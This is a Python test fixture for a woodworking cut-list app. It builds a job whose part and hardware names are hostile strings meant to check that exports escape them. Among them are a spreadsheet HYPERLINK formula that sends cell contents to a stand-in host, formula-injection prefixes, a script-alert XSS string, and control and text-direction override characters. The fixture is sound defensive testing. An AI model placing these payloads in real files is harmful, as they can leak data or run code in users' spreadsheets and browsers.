"""Matter for tests of files: hostile names, bands, a fit part, two materials, both units."""

from dataclasses import replace

from layout_app.model.words.wording import unplaced_sentences
from layout_app.paper.matter import Matter, matter_of
from shared.building import Build, BuildStep, Hardware, StepKind
from shared.job import Job
from shared.lengths import INCH, MM, LengthStyle, Unit
from shared.parts import Bands, GrainRule, Part
from shared.plan import Plan
from shared.shop import Shop
from shared.stock import SheetGrain, Stock, Trims
from tests.layout_app.small_job import planned

HOSTILE = (
    '=HYPERLINK("http://a.example/?x="&A1,"Open")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "Side;=1+1",
    "Side,\t-1|@x",
    "＝1+1",
    "\u200b=1+1",
    "<script>alert('x')</script> & \"side\" 'B'",
    "NUL \x00 bell \x07 escape \x1b delete \x7f next \x85 line",
    "אב גד ימין",
    "Saw 🪚 shelf 👩‍🔧",
    "long " * 60,
    "first line\nsecond | line\r\n# third",
    "3/4",
    "1e1",
    "007",
    "[a](http://b.example) `code` *bold* \\ _x_ ~~no~~ www.c.example",
    "%%c \\U+0041 ^J \\P {x}",
    "turned \u202e round \u2066 again",
    "lone \ud800 half",
)
"""Names that make trouble in spreadsheets, XML, DXF, Markdown or a terminal."""
PLY, BOARD = "3/4 birch ply", "-18 mm | board\n"


def hostile_job() -> Job:
    """Return a job with a part of each hostile name, and some plain ones."""
    named = tuple(
        Part(
            id=f"p{place}",
            name=name,
            length=(20 + place) * INCH + place * INCH // 64,
            width=5 * INCH + place * MM // 100,
            material=PLY if place % 2 else BOARD,
            note=HOSTILE[-place - 1],
        )
        for place, name in enumerate(HOSTILE)
    )
    return Job(
        name="Shelf <unit> | & more\n=1+1",
        parts=(*named, *_plain()),
        stock=(
            _stock("a", PLY, (96 * INCH, 48 * INCH), 23 * INCH // 32, 5250),
            _stock("b", BOARD, (2440 * MM, 1220 * MM), 18 * MM, 0),
        ),
        shop=Shop(kerf=INCH // 8),
    )


def _plain() -> tuple[Part, ...]:
    """Return a banded part, a fit part, and one that lies across the grain."""
    return (
        Part(
            id="door",
            name="Door",
            copies=2,
            length=30 * INCH,
            width=11 * INCH + 7 * INCH // 8,
            material=PLY,
            bands=Bands(top=MM, bottom=MM, left=2 * MM, right=2 * MM),
            show=True,
        ),
        Part(
            id="front",
            name="Front",
            length=14 * INCH + 13 * INCH // 16,
            width=5 * INCH + 13 * INCH // 16,
            material=PLY,
            fit_allowance=INCH // 4,
        ),
        Part(
            id="back",
            name="Back",
            length=600 * MM,
            width=4003 * MM // 10,
            material=BOARD,
            grain_rule=GrainRule.ALONG_WIDTH,
        ),
    )


def _stock(row: str, material: str, size: tuple[int, int], thickness: int, price: int) -> Stock:
    return Stock(
        id=row,
        name="",
        material=material,
        length=size[0],
        width=size[1],
        thickness=thickness,
        grain=SheetGrain.ALONG_L,
        trims=Trims(near=INCH // 4, start=INCH // 4),
        price=price,
    )


def build() -> Build:
    """Return steps in a maker's words, and hardware, hostile ones among them."""
    return Build(
        steps=(
            BuildStep(kind=StepKind.GROOVE, text="Groove 1/4 in deep, 3/8 up", parts=("door",)),
            BuildStep(kind=StepKind.BAND, text="# ends first\n1. then edges", parts=("door", "p0")),
            BuildStep(kind=StepKind.FINISH),
        ),
        hardware=(
            Hardware(name="Drawer slides", count=6, note="20 in, pairs"),
            Hardware(name="=1+1", count=12, note="pull | knob"),
        ),
    )


def hostile_matter(unit: Unit = Unit.INCH) -> Matter:
    """Return the whole of it, planned in this process, in inches or millimetres."""
    job = replace(hostile_job(), style=LengthStyle(unit=unit))
    return matter_of(job, planned(job), build=build())


def matter_of_plan(
    job: Job, plan: Plan, build: Build | None = None, unit: Unit | None = None
) -> Matter:
    """Return all that exports tell of a plan just made, in another unit if one is named."""
    if unit is not None:
        job = replace(job, style=replace(job.style, unit=unit))
    return matter_of(job, plan, waiting=tuple(unplaced_sentences(plan)), build=build)
